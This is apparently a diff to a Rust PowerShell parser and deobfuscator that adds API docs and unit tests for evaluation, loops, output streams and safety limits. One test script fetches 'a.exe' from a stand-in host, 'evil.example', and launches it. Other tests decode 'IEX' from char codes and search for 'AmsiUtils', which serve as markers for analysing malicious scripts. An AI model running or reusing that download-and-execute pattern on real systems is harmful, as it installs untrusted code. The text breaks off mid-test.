@@ -27,7 +27,59 @@
 //! ```
 
 mod parser;
+/// Command element passed to a custom cmdlet.
+///
+/// Custom cmdlets are registered with
+/// [`PowerShellSession::register_cmdlet`] and get the command parameters and
+/// the evaluated arguments in the order they appear in the script.
+///
+/// # Examples
+///
+/// ```rust
+/// use ps_parser::{CommandArg, PowerShellSession, PsValue};
+///
+/// let mut session = PowerShellSession::new();
+/// session.register_cmdlet("Get-Args", |args, _| {
+///     assert_eq!(
+///         args,
+///         vec![
+///             CommandArg::Parameter("-name".into()),
+///             CommandArg::Argument(PsValue::Int(3)),
+///         ]
+///     );
+///     Ok(PsValue::Null)
+/// });
+/// session.safe_eval("Get-Args -Name (1 + 2)").unwrap();
+/// ```
+pub use parser::CommandArg;
+/// What the deobfuscated script shows for evaluated loops.
+///
+/// Set with [`PowerShellSession::with_deobfuscation_mode`].
+pub use parser::DeobfuscationMode;
+/// Safety limits applied while evaluating PowerShell scripts.
+///
+/// Caps the number of loop iterations, the recursion depth and the total
+/// number of evaluated statements, so hostile scripts cannot hang the
+/// parser.
+///
+/// # Examples
+///
+/// ```rust
+/// use ps_parser::{ExecutionLimits, PowerShellSession};
+///
+/// let limits = ExecutionLimits {
+///     max_loop_iterations: 10_000,
+///     ..Default::default()
+/// };
+/// let mut session = PowerShellSession::new().with_limits(limits);
+/// ```
+pub use parser::ExecutionLimits;
 pub(crate) use parser::NEWLINE;
+/// Error returned when a script can't be parsed or evaluated.
+///
+/// Errors of single statements don't stop the evaluation, they are collected
+/// in [`ScriptResult::errors`].
+pub use parser::ParserError;
 /// Represents a PowerShell parsing and evaluation session.
 ///
 /// This is the main entry point for parsing and evaluating PowerShell scripts.
@@ -51,6 +103,16 @@ pub(crate) use parser::NEWLINE;
 /// println!("Result: {:?}", script_result.result());
 /// ```
 pub use parser::PowerShellSession;
+/// Output stream a [`StreamMessage`] was written to.
+///
+/// Like in PowerShell, regular output goes to the success stream, while
+/// warnings, errors and verbose messages have their own streams.
+pub use parser::PowerShellStream;
+/// Script block value of [`PsValue::ScriptBlock`].
+///
+/// Its source is returned by [`PsScriptBlock::source`]; converting it back to a
+/// session value keeps the parameters of the block.
+pub use parser::PsScriptBlock;
 /// Represents a PowerShell value that can be stored and manipulated.
 ///
 /// This enum covers all the basic PowerShell data types including primitives,
@@ -67,6 +129,11 @@ pub use parser::PowerShellSession;
 /// let bool_val = PsValue::Bool(true);
 /// ```
 pub use parser::PsValue;
+/// Scope of a PowerShell variable, e.g. `Global` for `$global:name` or `Env`
+/// for `$env:name`.
+///
+/// Used to choose where [`Variables::from_map`] inserts the values.
+pub use parser::Scope;
 /// Contains the complete result of parsing and evaluating a PowerShell script.
 ///
 /// This structure holds the final result value, any output generated,
@@ -87,6 +154,31 @@ pub use parser::PsValue;
 /// println!("Errors: {:?}", script_result.errors());
 /// ```
 pub use parser::ScriptResult;
+/// Single message written to the script output.
+///
+/// Messages are available with [`ScriptResult::output_messages`], so the
+/// output can be processed message by message and filtered by the stream.
+///
+/// # Examples
+///
+/// ```rust
+/// use ps_parser::{PowerShellSession, PowerShellStream};
+///
+/// let mut session = PowerShellSession::new();
+/// let script_result = session
+///     .parse_input("Write-Host 'hi'; Write-Warning 'careful'; 1 + 2")
+///     .unwrap();
+///
+/// let success = script_result
+///     .output_messages()
+///     .iter()
+///     .filter(|msg| msg.stream == PowerShellStream::Success)
+///     .map(|msg| msg.content.as_str())
+///     .collect::<Vec<_>>();
+/// assert_eq!(success, vec!["3"]);
+/// assert_eq!(script_result.output_lines(), vec!["hi", "WARNING: careful", "3"]);
+/// ```
+pub use parser::StreamMessage;
 /// Represents a parsed token from a PowerShell script.
 ///
 /// Tokens are the building blocks of parsed PowerShell code and are used
@@ -123,7 +215,7 @@ pub use parser::Token;
 ///
 /// This structure handles variable storage, retrieval, and scope management
 /// for PowerShell scripts. It supports loading variables from environment
-/// variables, INI files, and manual assignment.
+/// variables, INI and JSON files, maps of values, and manual assignment.
 ///
 /// # Examples
 ///
@@ -227,6 +319,55 @@ mod tests {
         assert_eq!(script_res.errors().len(), 1);
     }
 
+    #[test]
+    fn deobfuscation_non_existing_value_in_string() {
+        // interpolate not existing value, without forcing evaluation
+        let mut p = PowerShellSession::new();
+        let input = r#""value: $missing""#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.result(), PsValue::Null);
+        assert_eq!(script_res.deobfuscated(), "\"value: $missing\"");
+        assert_eq!(script_res.errors().len(), 1);
+        assert_eq!(
+            script_res.errors()[0].to_string(),
+            "VariableError: Variable \"missing\" is not defined"
+        );
+
+        // interpolate not existing value, forcing evaluation
+        let mut p = PowerShellSession::new().with_variables(Variables::force_eval());
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.result(), PsValue::String("value: ".to_string()));
+        assert_eq!(script_res.deobfuscated(), "\"value: \"");
+        assert_eq!(script_res.output(), "value: ");
+        assert_eq!(script_res.errors().len(), 0);
+    }
+
+    #[test]
+    fn deobfuscation_comments() {
+        // comments between statements are kept, also after failing ones
+        let mut p = PowerShellSession::new();
+        let input = r#"# first
+$a = 1 + 1
+
+# Test 29: after assignment
+[int]'x' # after error
+$a; <# block #>"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.deobfuscated(),
+            vec![
+                "# first",
+                "$a = 2",
+                "# Test 29: after assignment",
+                "[int]'x'",
+                "# after error",
+                "2",
+                "<# block #>"
+            ]
+            .join(NEWLINE)
+        );
+    }
+
     #[test]
     fn deobfuscation_env_value() {
         // assign not existing value, without forcing evaluation
@@ -363,6 +504,59 @@ Write-Output "Modulo: $(($a % $b))"
         );
     }
 
+    #[test]
+    fn find_expressions_containing() {
+        let input = r#"$b = [Convert]::FromBase64String("QQ==")
+$s = [Text.Encoding]::UTF8.GetString($b)
+[convert]::frombase64string("Qg==").Length + 1"#;
+        let script_result = PowerShellSession::new().parse_input(input).unwrap();
+        let tokens = script_result.tokens();
+
+        let found = tokens.find_expressions_containing("FromBase64String");
+        assert_eq!(
+            found.iter().map(|expr| expr.token()).collect::<Vec<_>>(),
+            [
+                r#"[Convert]::FromBase64String("QQ==")"#,
+                r#"[convert]::frombase64string("Qg==").Length + 1"#,
+            ]
+        );
+        assert_eq!(found[1].value(), &PsValue::Int(2));
+        assert!(tokens.find_expressions_containing("AmsiUtils").is_empty());
+    }
+
+    #[test]
+    fn float_division() {
+        let mut p = PowerShellSession::new();
+        let s = p.parse_input("3.0 / 2").unwrap();
+        assert_eq!(s.result(), PsValue::Float(1.5));
+
+        let s = p.parse_input("10.0 / 4").unwrap();
+        assert_eq!(s.result(), PsValue::Float(2.5));
+    }
+
+    #[test]
+    fn int_overflow() {
+        let mut p = PowerShellSession::new();
+        let s = p.parse_input("2147483647 * 2147483647").unwrap();
+        assert_eq!(s.result(), PsValue::Float(2147483647f64 * 2147483647f64));
+
+        let s = p.parse_input("2147483647 + 1").unwrap();
+        assert_eq!(s.result(), PsValue::Float(2147483648.));
+
+        let s = p.parse_input("-2147483648 - 1").unwrap();
+        assert_eq!(s.result(), PsValue::Float(-2147483649.));
+
+        let s = p.parse_input("2147483646 + 1").unwrap();
+        assert_eq!(s.result(), PsValue::Int(2147483647));
+
+        // operand doesn't fit in Int32, so it's long arithmetic
+        let s = p.parse_input("4294967296 * 2").unwrap();
+        assert_eq!(s.result(), PsValue::Int(8589934592));
+
+        let s = p.parse_input("9223372036854775807 + 1").unwrap();
+        assert_eq!(s.result(), PsValue::Float(9223372036854775808.));
+    }
+
     #[test]
     fn test_scripts() {
         use std::fs;
@@ -483,6 +677,29 @@ Write-Output "Modulo: $(($a % $b))"
         assert_eq!(script_res.errors().len(), 0);
     }
 
+    #[test]
+    fn char_range() {
+        let mut p = PowerShellSession::new();
+        let script_res = p.parse_input("'a'..'e'").unwrap();
+        assert_eq!(
+            script_res.result(),
+            PsValue::Array((97..=101).map(PsValue::Char).collect())
+        );
+
+        let script_res = p.parse_input("-join ('a'..'c')").unwrap();
+        assert_eq!(script_res.result(), PsValue::String("abc".into()));
+
+        let script_res = p.parse_input("([char]'Z'..'X') -join ''").unwrap();
+        assert_eq!(script_res.result(), PsValue::String("ZYX".into()));
+
+        // digits are still numbers
+        let script_res = p.parse_input("'1'..'3'").unwrap();
+        assert_eq!(
+            script_res.result(),
+            PsValue::Array(vec![PsValue::Int(1), PsValue::Int(2), PsValue::Int(3)])
+        );
+    }
+
     #[test]
     fn even_numbers() {
         // Test for even numbers
@@ -578,6 +795,7 @@ if ($score -ge 90) {
         assert_eq!(
             script_res.deobfuscated(),
             vec![
+                "# Test 10: Conditional Statements",
                 "$if_result = \"condition true\"",
                 "$else_result = \"true branch\"",
                 "$score = 85",
@@ -707,7 +925,7 @@ if ($score -ge 90) {
         );
 
         // nested arrays
-        let input = r#" $a = 1, "two", 3.0, $false, (Get-Date);$a"#;
+        let input = r#" $a = 1, "two", 3.0, $false, (Get-Date "2024-02-08 15:05:09");$a"#;
         let script_res = p.parse_input(input).unwrap();
         assert_eq!(
             script_res.result(),
@@ -716,14 +934,14 @@ if ($score -ge 90) {
                 PsValue::String("two".into()),
                 PsValue::Float(3.0),
                 PsValue::Bool(false),
-                PsValue::String("Get-Date".into()),
+                PsValue::String("02/08/2024 15:05:09".into()),
             ])
         );
         assert_eq!(
             script_res.deobfuscated(),
             vec![
-                "$a = @(1,\"two\",3,$false,Get-Date)",
-                "@(1,\"two\",3,$false,Get-Date)"
+                "$a = @(1,\"two\",3,$false,[datetime]\"2024-02-08T15:05:09\")",
+                "@(1,\"two\",3,$false,[datetime]\"2024-02-08T15:05:09\")"
             ]
             .join(NEWLINE)
         );
@@ -830,6 +1048,634 @@ $a"#;
             script_res.result(),
             PsValue::Array(vec![PsValue::Int(1), PsValue::Int(4)])
         );
+
+        // operators as elements
+        let input = r#" $a = @(("a" -replace 'a','b'), 2), ("x" -eq "x"), -not $true;$a"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.result(),
+            PsValue::Array(vec![
+                PsValue::Array(vec![PsValue::String("b".into()), PsValue::Int(2)]),
+                PsValue::Bool(true),
+                PsValue::Bool(false),
+            ])
+        );
+        assert_eq!(
+            script_res.deobfuscated(),
+            [
+                r#"$a = @(@("b",2),$true,$false)"#,
+                r#"@(@("b",2),$true,$false)"#
+            ]
+            .join(NEWLINE)
+        );
+
+        // statements in array expression are unrolled
+        let input = r#" $a = @("a" -replace 'a','b'; 2, 3; $x = 1);$a"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.result(),
+            PsValue::Array(vec![
+                PsValue::String("b".into()),
+                PsValue::Int(2),
+                PsValue::Int(3),
+            ])
+        );
+
+        // comma binds tighter than -replace, like in PowerShell
+        let input = r#" @("a" -replace 'a','b', 2)"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.errors()[0].to_string(),
+            "OperatorError: The -ireplace operator allows only two elements to follow it, not 3"
+        );
+    }
+
+    #[test]
+    fn unary_comma() {
+        let mut p = PowerShellSession::new();
+
+        let script_res = p.parse_input(",1").unwrap();
+        assert_eq!(script_res.result(), PsValue::Array(vec![PsValue::Int(1)]));
+        assert_eq!(script_res.deobfuscated(), "@(1)");
+
+        // unary comma forces array return for a single item
+        let input = r#" function F($x) { return ,$x }; $r = F 5; $r.Count; $r.GetType().Name "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.output(), ["1", "Object[]"].join(NEWLINE));
+        assert_eq!(script_res.deobfuscated_lines()[1], "$r = @(5)".to_string());
+
+        let input = r#" function G { ,(1, 2) }; (G).Count "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.result(), PsValue::Int(1));
+    }
+
+    #[test]
+    fn char_code_join() {
+        let mut p = PowerShellSession::new();
+        let input = r#"
+$cmd = (73,69,88 | %{[char]$_}) -join ''
+$w = -join (0x57, 0x72, 0x69, 0x74, 0x65 | ForEach-Object { [char]$_ })
+$line = (("$w-Host" -split '') + (32, 72, 73 | % { [char]$_ })) -join ''
+$line
+"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.result(), PsValue::String("Write-Host HI".into()));
+        assert_eq!(
+            script_res.deobfuscated(),
+            [
+                r#"$cmd = "IEX""#,
+                r#"$w = "Write""#,
+                r#"$line = "Write-Host HI""#,
+                r#""Write-Host HI""#,
+            ]
+            .join(NEWLINE)
+        );
+    }
+
+    #[test]
+    fn member_access_chain() {
+        let mut p = PowerShellSession::new();
+        let input = r#"
+$o = @{ a = @{ b = @( @{ c = "ab,cd" }, @{ c = "ef" } ) } }
+$o.a.b[0].c.Split(",")[1].ToUpper()
+$o.A.B[1].C.Replace("e", "E").Substring(1)
+$o.a.b[0]["c"].Split(",")[0].Length
+($o.a.b[0].c -replace ",", ";").Split(";")[1].ToUpper().Substring(1)
+"#;
+        // parenthesis in the next line is not an argument list of "Length"
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.output(), ["CD", "f", "2", "D"].join(NEWLINE));
+        assert_eq!(script_res.errors().len(), 0);
+    }
+
+    #[test]
+    fn member_access_chain_on_objects() {
+        let mut p = PowerShellSession::new();
+        let input = r#"
+(New-Object PSObject -Property @{A=@{B=1}}).A.B
+$o = @{ Inner = [pscustomobject]@{ Name = "x,y" }; When = [datetime]"2024-01-30" }
+$o.Inner.Name.Split(",")[1].ToUpper()
+$o.When.AddDays(2).AddMonths(1).Month
+$o.Inner.Name.GetType().Name.Length
+$o.Keys -join ","
+"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.output(),
+            ["1", "Y", "3", "6", "inner,when"].join(NEWLINE)
+        );
+        assert_eq!(script_res.errors().len(), 0);
+    }
+
+    #[test]
+    fn attempted_commands() {
+        let mut p = PowerShellSession::new();
+        let input = r#"
+$u = "http://" + "evil.example"
+Invoke-WebRequest -Uri $u -OutFile ("C:\tmp\" + "a.exe")
+Start-Process "a.exe"
+function f($x) { Write-Host "f $x" }
+f 1
+"#;
+        let script_res = p.parse_input(input).unwrap();
+        let commands = script_res
+            .attempted_commands()
+            .iter()
+            .map(|c| format!("{} {}", c.name(), c.args().join(" ")))
+            .collect::<Vec<_>>();
+        assert_eq!(
+            commands,
+            [
+                r"Invoke-WebRequest -uri http://evil.example -outfile C:\tmp\a.exe",
+                "Start-Process a.exe",
+                "f 1",
+                "Write-Host f 1",
+            ]
+        );
+        // the unknown cmdlets were not run, but they are still listed
+        let errors = script_res.errors();
+        assert_eq!(
+            errors[0].to_string(),
+            "CommandError: Invoke-WebRequest not found"
+        );
+        assert_eq!(
+            errors[1].to_string(),
+            "CommandError: Start-Process not found"
+        );
+    }
+
+    #[test]
+    fn line_continuation() {
+        let mut p = PowerShellSession::new();
+        let input = "$parts = \"c,a,b\" `\n    -split \",\" `\n    | Sort-Object `\n    | ForEach-Object { $_.ToUpper() }\n$parts -join \"\"\n$x = 1 + `\n  2\nWrite-Output `\n  $x\n\"a`\nb\"";
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.output(), ["ABC", "3", "a\nb"].join(NEWLINE));
+        assert_eq!(script_res.errors().len(), 0);
+    }
+
+    #[test]
+    fn trap_statement() {
+        let mut p = PowerShellSession::new();
+        let input = r#"
+trap { "Trapped: $_"; continue }
+"before"
+throw "boom"
+"after"
+"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.output(),
+            ["before", "Trapped: boom", "after"].join(NEWLINE)
+        );
+        assert_eq!(
+            script_res.errors().last().unwrap().to_string(),
+            "Exception: boom"
+        );
+
+        // break stops the script
+        let input = r#"
+$x = 1 / 0
+"never"
+trap { "Trapped: $_"; break }
+"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.output(),
+            "Trapped: ValError: Can't divide by zero"
+        );
+    }
+
+    #[test]
+    fn statement_hook() {
+        let steps = std::rc::Rc::new(std::cell::RefCell::new(Vec::new()));
+        let recorded = steps.clone();
+        let mut p = PowerShellSession::new();
+        p.on_statement(Box::new(move |source, val| {
+            recorded.borrow_mut().push(format!("{source} => {val}"));
+        }));
+
+        let input = r#"
+$s = "ab" + "c"
+if ($s -eq "abc") { $s.ToUpper() }
+$undefined.Length
+"#;
+        let _ = p.parse_input(input).unwrap();
+        assert_eq!(
+            *steps.borrow(),
+            [
+                "$s = \"ab\" + \"c\" => abc",
+                "if ($s -eq \"abc\") { $s.ToUpper() } => ABC",
+                // failed statement is kept as script text
+                "$undefined.Length => $undefined.Length",
+            ]
+        );
+    }
+
+    #[test]
+    fn error_variable() {
+        let mut p = PowerShellSession::new();
+        let input = r#"
+$x = 1 / 0
+$y = $undefined
+$error.Count
+$error[0]
+$error[1]
+"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.output(),
+            [
+                "2",
+                "VariableError: Variable \"undefined\" is not defined",
+                "ValError: Can't divide by zero"
+            ]
+            .join(NEWLINE)
+        );
+        assert_eq!(script_res.errors().len(), 2);
+    }
+
+    #[test]
+    fn custom_cmdlet() {
+        let mut p = PowerShellSession::new();
+        p.register_cmdlet("Invoke-WebRequest", |args, _| {
+            let url = args
+                .iter()
+                .find_map(|arg| match arg {
+                    CommandArg::Argument(PsValue::String(s)) => Some(s.clone()),
+                    _ => None,
+                })
+                .ok_or("missing url")?;
+            Ok(PsValue::String(format!("content of {url}")))
+        });
+        // custom cmdlets override the built-in ones
+        p.register_cmdlet("Get-Date", |_, _| Ok(PsValue::Int(2024)));
+
+        let input = r#"
+$u = "http://" + "example.com"
+$r = Invoke-WebRequest -Uri $u
+$r.ToUpper()
+get-date
+"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.output(),
+            ["CONTENT OF HTTP://EXAMPLE.COM", "2024"].join(NEWLINE)
+        );
+
+        let script_res = p.parse_input("Invoke-WebRequest").unwrap();
+        assert_eq!(
+            script_res.errors()[0].to_string(),
+            "CommandError: missing url"
+        );
+    }
+
+    #[test]
+    fn culture_invariant_numbers() {
+        let mut p = PowerShellSession::new();
+        let script_res = p.parse_input(r#"[int]"1,000""#).unwrap();
+        assert_eq!(
+            script_res.errors()[0].to_string(),
+            "ValError: Failed to convert value \"1,000\" to type Int. Numbers are parsed \
+             culture-invariant, \",\" separator is not allowed"
+        );
+
+        let script_res = p.parse_input(r#"[double]" 1.5 "; [int]"1e3""#).unwrap();
+        assert_eq!(script_res.output(), ["1.5", "1000"].join(NEWLINE));
+    }
+
+    #[test]
+    fn output_messages() {
+        let mut p = PowerShellSession::new();
+        let script_res = p.parse_input(r#"Write-Host "a"; "b"; 3"#).unwrap();
+        let messages = script_res.output_messages();
+        assert_eq!(
+            messages
+                .iter()
+                .map(|msg| (msg.content.as_str(), msg.stream.clone()))
+                .collect::<Vec<_>>(),
+            vec![
+                ("a", PowerShellStream::Information),
+                ("b", PowerShellStream::Success),
+                ("3", PowerShellStream::Success)
+            ]
+        );
+        assert_eq!(script_res.output_lines(), vec!["a", "b", "3"]);
+    }
+
+    #[test]
+    fn output_streams() {
+        let mut p = PowerShellSession::new();
+        let input = r#"
+Write-Output "out"
+Write-Host "host"
+Write-Warning "careful"
+Write-Error "failed"
+Write-Verbose "details"
+Write-Debug "state"
+Write-Information -MessageData "info" -Tags t
+"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.success_stream(), vec!["out"]);
+        assert_eq!(script_res.information(), vec!["host", "info"]);
+        assert_eq!(script_res.warnings(), vec!["careful"]);
+        assert_eq!(script_res.errors_stream(), vec!["failed"]);
+        assert_eq!(script_res.verbose(), vec!["details"]);
+        assert_eq!(script_res.debug(), vec!["state"]);
+        assert_eq!(
+            script_res.output(),
+            [
+                "out",
+                "host",
+                "WARNING: careful",
+                "ERROR: failed",
+                "VERBOSE: details",
+                "DEBUG: state",
+                "info",
+            ]
+            .join(NEWLINE)
+        );
+    }
+
+    #[test]
+    fn do_loop() {
+        let mut p = PowerShellSession::new();
+
+        let input = r#"$i = 0; $s = ""; do { $i += 1; $s += "$i" } until ($i -ge 5); $i; $s"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.output(), ["5", "12345"].join(NEWLINE));
+
+        let input = r#"$n = 10; do { $n = [math]::Floor($n / 2); $n } while ($n -gt 1)"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.result(),
+            PsValue::Array(vec![
+                PsValue::Float(5.0),
+                PsValue::Float(2.0),
+                PsValue::Float(1.0)
+            ])
+        );
+
+        // body is run once even if the condition is false
+        let input = r#"do { "once" } while ($false)"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.result(), PsValue::String("once".into()));
+
+        let limits = ExecutionLimits {
+            max_loop_iterations: 10,
+            ..Default::default()
+        };
+        let mut p = PowerShellSession::new().with_limits(limits);
+        let script_res = p.parse_input("do { 1 } while ($true)").unwrap();
+        assert_eq!(
+            script_res.errors()[0].to_string(),
+            "LimitExceeded: Loop exceeded the maximum number of iterations (10)"
+        );
+    }
+
+    #[test]
+    fn while_for_foreach_loops() {
+        let mut p = PowerShellSession::new();
+
+        let input = r#"$s = 0; for ($i = 1; $i -le 4; $i++) { $s += $i }; $s"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.result(), PsValue::Int(10));
+
+        let input = r#"$j = 0; while ($j -lt 10) { $j += 1; if ($j % 2) { continue }; if ($j -gt 6) { break }; "even $j" }"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.output(),
+            ["even 2", "even 4", "even 6"].join(NEWLINE)
+        );
+
+        let input = r#"foreach ($c in 'a', 'b', 'c') { [int][char]$c }"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.result(),
+            PsValue::Array(vec![PsValue::Int(97), PsValue::Int(98), PsValue::Int(99)])
+        );
+
+        // break in switch stops the switch, not the loop
+        let input = r#"foreach ($n in 1..3) { switch ($n) { 2 { break } default { $n } } }"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.result(),
+            PsValue::Array(vec![PsValue::Int(1), PsValue::Int(3)])
+        );
+
+        let script_res = p
+            .parse_input(r#"foreach ($x in $null) { "never" }"#)
+            .unwrap();
+        assert_eq!(script_res.result(), PsValue::Null);
+
+        // increment statements don't output the value
+        let input = r#"$j = 0; while ($j -lt 3) { $j++ }; ++$j; ($j++); $j"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.output(), ["4", "5"].join(NEWLINE));
+
+        // break in a function called from the loop stops the loop
+        let input = r#"foreach ($i in 1..3) { function g { if ($i -eq 2) { break } }; g; $i }"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.output(), "1");
+        assert!(script_res.errors().is_empty());
+    }
+
+    #[test]
+    fn loop_deobfuscation() {
+        let input = r#"$key = ""
+foreach ($b in 0x41, 0x42) {
+  $key   +=  [char]$b
+}
+$key"#;
+
+        let mut p = PowerShellSession::new();
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.deobfuscated(),
+            [
+                r#"$key = """#,
+                "foreach ($b in 0x41, 0x42) {",
+                "    $key   +=  [char]$b",
+                "}",
+                r#""AB""#,
+            ]
+            .join(NEWLINE)
+        );
+
+        let mut p = PowerShellSession::new().with_deobfuscation_mode(DeobfuscationMode::Aggressive);
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.deobfuscated(),
+            [
+                r#"$key = """#,
+                "$b = 65",
+                r#"$key = "A""#,
+                "$b = 66",
+                r#"$key = "AB""#,
+                r#""AB""#,
+            ]
+            .join(NEWLINE)
+        );
+
+        // values written by the loop are kept in the unrolled script
+        let input = r#"$i = 0; do { $i = $i + 1; "step $i" } while ($i -lt 2)"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.deobfuscated(),
+            ["$i = 0", "$i = 1", "$i = 2", r#"@("step 1","step 2")"#,].join(NEWLINE)
+        );
+
+        let mut p = PowerShellSession::new();
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.deobfuscated(),
+            [
+                "$i = 0",
+                "do {",
+                "    $i = $i + 1",
+                r#"    "step $i""#,
+                "} while ($i -lt 2)",
+            ]
+            .join(NEWLINE)
+        );
+
+        // loop stopped by the iteration limit is shown as the loop itself
+        let limits = ExecutionLimits {
+            max_loop_iterations: 10,
+            ..Default::default()
+        };
+        let mut p = PowerShellSession::new().with_limits(limits);
+        let script_res = p.parse_input("$i = 0; while ($true) { $i++ }").unwrap();
+        assert_eq!(
+            script_res.errors()[0].to_string(),
+            "LimitExceeded: Loop exceeded the maximum number of iterations (10)"
+        );
+        assert_eq!(
+            script_res.deobfuscated(),
+            ["$i = 0", "while ($true) {", "    $i++", "}"].join(NEWLINE)
+        );
+    }
+
+    #[test]
+    fn switch_statement() {
+        let mut p = PowerShellSession::new();
+        let script_res = p.parse_input(r#"switch(99){1{"a"}}"#).unwrap();
+        assert_eq!(script_res.result(), PsValue::Null);
+        assert_eq!(script_res.deobfuscated(), "");
+        assert_eq!(script_res.errors().len(), 0);
+
+        let input = r#"
+switch (2) { 1 { "one" } 2 { "two" } default { "other" } }
+switch ("abc") { "ABC" { "eq" } default { "d" } }
+switch -CaseSensitive ("abc") { "ABC" { "eq" } default { "d" } }
+switch -Wildcard ("hello.ps1") { "*.ps1" { "script" } "*.txt" { "text" } }
+switch -Regex ("abc123") { '^\d+$' { "number" } '\d' { "digit in $_" } }
+$r = switch (1, 5, 9) { { $_ -gt 4 } { "big $_" } default { "small $_" } }
+"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.deobfuscated(),
+            [
+                "\"two\"",
+                "\"eq\"",
+                "\"d\"",
+                "\"script\"",
+                "\"digit in abc123\"",
+                "$r = @(\"small 1\",\"big 5\",\"big 9\")",
+            ]
+            .join(NEWLINE)
+        );
+        assert_eq!(script_res.errors().len(), 0);
+    }
+
+    #[test]
+    fn count_and_length() {
+        let mut p = PowerShellSession::new();
+        let input = r#"
+$a = 1, 2, 3
+$h = @{ a = 1; b = 2 }
+$a.Count
+$a.length
+"zażółć".Length
+"ab".Count
+$null.Count
+$h.Count
+@{ count = 7 }.Count
+(1..3).Where({ $_ -gt 5 }).Count
+"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.output(),
+            ["3", "3", "6", "1", "0", "2", "7", "0"].join(NEWLINE)
+        );
+        assert_eq!(script_res.errors().len(), 0);
+    }
+
+    #[test]
+    fn array_where_foreach() {
+        let mut p = PowerShellSession::new();
+        let script_res = p.parse_input("(1..5).Where({$_ % 2})").unwrap();
+        assert_eq!(
+            script_res.result(),
+            PsValue::Array(vec![PsValue::Int(1), PsValue::Int(3), PsValue::Int(5)])
+        );
+        assert_eq!(script_res.deobfuscated(), "@(1,3,5)");
+
+        let input = r#"$a = "x", "yy"; $a.foreach({ $_.Length * 2 })"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.result(),
+            PsValue::Array(vec![PsValue::Int(2), PsValue::Int(4)])
+        );
+
+        // result is always a collection
+        let script_res = p.parse_input("(1, 2).Where({ $_ -gt 1 })").unwrap();
+        assert_eq!(script_res.result(), PsValue::Array(vec![PsValue::Int(2)]));
+        let script_res = p.parse_input("(1, 2).Where({ $_ -gt 5 })").unwrap();
+        assert_eq!(script_res.result(), PsValue::Array(vec![]));
+    }
+
+    #[cfg(feature = "serde")]
+    #[test]
+    fn ps_value_to_json() {
+        let mut p = PowerShellSession::new();
+        let input = r#"@{ name = "x"; count = 2; ratio = 0.5; ok = $true; none = $null; items = 1, [char]'a'; sb = { $_ + 1 }; nan = [double]::NaN }"#;
+        let json = serde_json::Value::from(p.parse_input(input).unwrap().result());
+        assert_eq!(
+            json,
+            serde_json::json!({
+                "name": "x",
+                "count": 2,
+                "ratio": 0.5,
+                "ok": true,
+                "none": null,
+                "items": [1, "a"],
+                "sb": "$_ + 1 ",
+                "nan": "NaN",
+            })
+        );
+    }
+
+    #[test]
+    fn array_measure_methods() {
+        let mut p = PowerShellSession::new();
+        let input = r#"@(1,2,3).Sum()
+@(1,2,3).Average()
+(4, "1.5", 9).Minimum()
+(4, "1.5", 9).Maximum()
+(1..5).Where({ $_ -gt 2 }).Count()
+@().Sum()"#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.output(),
+            ["6", "2", "1.5", "9", "3", "0"].join(NEWLINE)
+        );
+        assert_eq!(script_res.errors().len(), 0);
+
+        let script_res = p.parse_input(r#"(1, "a").Sum()"#).unwrap();
+        assert_eq!(
+            script_res.errors()[0].to_string(),
+            "CommandError: Input object \"a\" is not numeric."
+        );
     }
 
     #[test]
@@ -876,7 +1722,7 @@ $a"#;
         assert_eq!(script_res.result(), PsValue::Null);
         assert_eq!(
             script_res.errors()[0].to_string(),
-            String::from("BitwiseError: band not defined for Int")
+            String::from("BitwiseError: shl not defined for Int")
         );
 
         let input = r#" '2' -as ([string] -shl 1) "#;
@@ -884,7 +1730,7 @@ $a"#;
         assert_eq!(script_res.result(), PsValue::Null);
         assert_eq!(
             script_res.errors()[0].to_string(),
-            String::from("BitwiseError: band not defined for String")
+            String::from("BitwiseError: shl not defined for String")
         );
 
         let input = r#" '2' -as ([int]) "#;
@@ -941,6 +1787,61 @@ $a"#;
         assert!(script_res.output().contains("-name radek"));
     }
 
+    #[test]
+    fn splatten_array_and_bool_values() {
+        let mut p = PowerShellSession::new();
+
+        let input = r#" function f([switch]$force, [int[]]$items) { "$force $($items -join ',')" }
+$a = @{ items = 1,2; force = $true }; f @a
